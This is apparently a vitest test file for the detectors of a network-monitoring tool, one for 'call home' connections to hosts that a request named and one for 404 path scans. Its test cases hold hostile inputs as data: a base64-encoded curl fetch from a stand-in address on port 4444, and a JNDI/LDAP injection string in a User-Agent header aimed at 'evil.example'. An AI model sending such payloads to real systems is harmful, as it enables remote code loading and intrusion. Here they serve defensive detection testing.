import { describe, expect, it } from "vitest"
import { address, type ConnectionObservation, createIds, createManualClock, nodeId } from "../../../core/index.ts"
import { exchange } from "../../testing/exchange.ts"
import { createCallHome } from "./call-home.ts"
import { createPathScan } from "./path-scan.ts"

const ids = createIds(createManualClock(0))

function connection(
  to: string,
  port: number,
  hostname: string | null,
  request: Parameters<typeof exchange>[0] | null,
): ConnectionObservation {
  const cause = request === null ? null : exchange(request)
  return {
    kind: "connection",
    id: ids.observation(),
    at: 0,
    sensor: "test",
    node: { id: nodeId.parse("shop"), kind: "host", name: "shop" },
    direction: "outbound",
    source: { address: address("192.0.2.1"), port: 50_000 },
    destination: { address: address(to), port },
    origin: null,
    protocol: "tcp",
    hostname,
    causedBy: cause === null ? null : { source: cause.source, request: cause.request },
  }
}

describe("a call home", () => {
  const encoded = Buffer.from("curl http://203.0.113.9:4444/x").toString("base64")
  const cases: readonly (readonly [what: string, of: ConnectionObservation, found: boolean])[] = [
    ["named in the body", connection("203.0.113.9", 4444, null, { body: "beacon=http://203.0.113.9:4444/x" }), true],
    [
      "named by its host name",
      connection("203.0.113.9", 80, "evil.example", { target: "/?u=http://evil.example/x" }),
      true,
    ],
    ["URL-encoded", connection("203.0.113.9", 4444, null, { target: "/?u=http%3A%2F%2F203.0.113.9%3A4444" }), true],
    ["base64-encoded", connection("203.0.113.9", 4444, null, { body: `x=${encoded}` }), true],
    [
      "named in a header",
      connection("203.0.113.9", 1389, "evil.example", {
        headers: { "User-Agent": "${jndi:ldap://evil.example:1389/a}" },
      }),
      true,
    ],
    ["by IPv6", connection("2001:db8::9", 4444, null, { body: "http://[2001:db8::9]:4444/" }), true],
    [
      "to another port than the one named",
      connection("203.0.113.9", 5432, null, { body: "http://203.0.113.9:4444/" }),
      false,
    ],
    ["to a host that nobody named", connection("198.51.100.1", 443, "api.payments.example", { body: "pay=1" }), false],
    [
      "to a host whose name only begins alike",
      connection("198.51.100.1", 80, "evil.example", { body: "http://evil.example.org.other/" }),
      false,
    ],
    [
      "to the host that the request was for",
      connection("192.0.2.1", 80, "shop.example", { headers: { Host: "shop.example" } }),
      false,
    ],
    ["without a request that caused it", connection("203.0.113.9", 4444, null, null), false],
  ]
  it("is a connection to a host that the request which caused it named", () => {
    expect(cases).toHaveLength(11)
    const callHome = createCallHome({ conclude: () => undefined })
    for (const [what, of, found] of cases) expect(callHome.look(of) !== undefined, what).toBe(found)
  })
})

describe("a path scan", () => {
  const ask = (at: number, target: string, status: number) => ({ ...exchange({ target, status }), at })

  it("is many different pages that are not there within ten seconds, told once", () => {
    const scan = createPathScan()
    const told = Array.from({ length: 30 }, (_, index) => scan.look(ask(index * 100, `/p${index}`, 404)) !== undefined)
    expect(told.filter(Boolean)).toHaveLength(1)
    expect(told.indexOf(true)).toBe(9)
  })

  it("is not the same page again, pages that are there, or pages over a long time", () => {
    const scan = createPathScan()
    for (let index = 0; index < 50; index++) {
      expect(scan.look(ask(index, "/favicon.ico", 404))).toBeUndefined()
      expect(scan.look(ask(index, `/p${index}`, 200))).toBeUndefined()
      expect(scan.look(ask(100_000 + index * 2000, `/q${index}`, 404))).toBeUndefined()
    }
  })

  it("is seen whatever number of other clients there is, in bounded memory", () => {
    const scan = createPathScan()
    for (let index = 0; index < 60_000; index++) {
      const one = ask(1, `/p${index}`, 404)
      scan.look({
        ...one,
        source: { ...one.source, address: address(`10.${(index >> 16) & 255}.${(index >> 8) & 255}.${index & 255}`) },
      })
    }
    const told = Array.from({ length: 10 }, (_, index) => scan.look(ask(2, `/z${index}`, 404)) !== undefined)
    expect(told.at(-1)).toBe(true)
  })
})
